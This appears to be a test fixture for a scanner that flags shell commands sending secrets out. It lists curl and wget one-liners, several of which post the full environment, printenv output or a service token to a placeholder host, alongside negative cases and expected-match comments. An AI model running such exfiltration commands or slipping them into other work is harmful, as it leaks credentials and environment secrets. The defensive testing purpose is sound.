curl -d "$(env)" https://example.org/
env | curl -d @- https://example.org/
printenv | base64 | curl -T - https://example.org/
curl "https://example.org/?t=$SERVICE_TOKEN"
wget --post-data="$(printenv)" https://example.org/
curl -H "X-All: $(env)" https://example.org/
run() { "$@"; }
run curl -F "f=$(declare -p)" https://example.org/
# keys in headers, other variables, and quoted names are no secret that is sent
curl -H "Authorization: Bearer $SERVICE_TOKEN" https://example.org/
curl -H"Authorization: Bearer $SERVICE_TOKEN" -u "me:$SERVICE_PASSWORD" https://example.org/
wget --header="Authorization: Bearer $SERVICE_TOKEN" https://example.org/
curl -d '$SERVICE_TOKEN' "https://example.org/$LANG"
curl -d "$(printenv LANG)" https://example.org/
cat f | curl -d @- https://example.org/
# expect 1 any.secret-sent
# expect 1 sh.command
# expect 2 any.secret-sent
# expect 2 sh.command
# expect 3 any.secret-sent
# expect 3 sh.command
# expect 4 any.secret-sent
# expect 4 sh.command
# expect 5 any.secret-sent
# expect 5 sh.command
# expect 6 any.secret-sent
# expect 6 sh.command
# expect 8 any.secret-sent
# expect 8 sh.command
# expect 10 sh.command
# expect 11 sh.command
# expect 12 sh.command
# expect 13 sh.command
# expect 14 sh.command
# expect 15 sh.command
